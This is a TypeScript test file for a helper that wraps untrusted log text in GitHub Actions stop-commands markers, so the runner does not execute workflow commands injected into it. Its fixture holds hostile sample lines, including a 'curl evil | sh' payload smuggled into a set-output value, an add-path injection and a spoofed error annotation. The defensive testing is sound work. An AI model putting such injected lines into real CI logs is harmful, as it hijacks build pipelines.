import { stopCommandsToken, untrustedBlock } from './untrusted.js'

/**
 * The runner's rule (actions/runner ActionCommandManager.TryProcessCommand): each line that
 * parses as `::cmd …::data` (at its start) or `##[cmd …]data` (anywhere) is a command; after
 * `stop-commands` only the command named by its token is heard, and it resumes processing.
 * Returns the commands the runner would execute.
 */
function executedCommands(log: string): string[] {
  const executed: string[] = []
  let stopToken: string | null = null
  for (const line of log.split(/\r\n|\r|\n/)) {
    const m = /^\s*::([^\s:]+)[^:]*::(.*)$/.exec(line) ?? /##\[([^\s\]]+)[^\]]*\](.*)$/.exec(line)
    if (!m) continue
    const [, command, data] = m
    if (stopToken !== null) {
      if (command.toLowerCase() === stopToken.toLowerCase()) stopToken = null
    } else if (command === 'stop-commands') stopToken = data
    else executed.push(command)
  }
  return executed
}

const hostile = [
  'listening on :8080',
  '::set-output name=heap-slope::1; curl evil | sh #',
  '  ::add-mask::',
  'log: ##[add-path]/tmp/evil',
  '::stop-commands::other',
  '::other::',
  'a\r::error file=x::spoofed',
  '::endgroup::'
].join('\n')

describe('untrustedBlock', () => {
  it('keeps the runner from executing any command in the text', () => {
    expect(executedCommands(hostile)).toEqual(['set-output', 'add-mask', 'add-path', 'error', 'endgroup'])
    expect(executedCommands(untrustedBlock(hostile))).toEqual([])
  })

  it('resumes command processing after the text', () => {
    expect(executedCommands(untrustedBlock(hostile) + '\n::set-output name=verdict::pass')).toEqual([
      'set-output'
    ])
  })

  it('shows the text as it is between the two marker lines', () => {
    const lines = untrustedBlock(hostile, 'memgate-0123').split('\n')
    expect(lines[0]).toBe('::stop-commands::memgate-0123')
    expect(lines.slice(1, -1).join('\n')).toBe(hostile)
    expect(lines.at(-1)).toBe('::memgate-0123::')
  })

  it('takes a new token that cannot be guessed for each call', () => {
    const tokens = new Set(Array.from({ length: 100 }, () => stopCommandsToken()))
    expect(tokens.size).toBe(100)
    for (const token of tokens) expect(token).toMatch(/^memgate-[0-9a-f]{32}$/)
  })
})
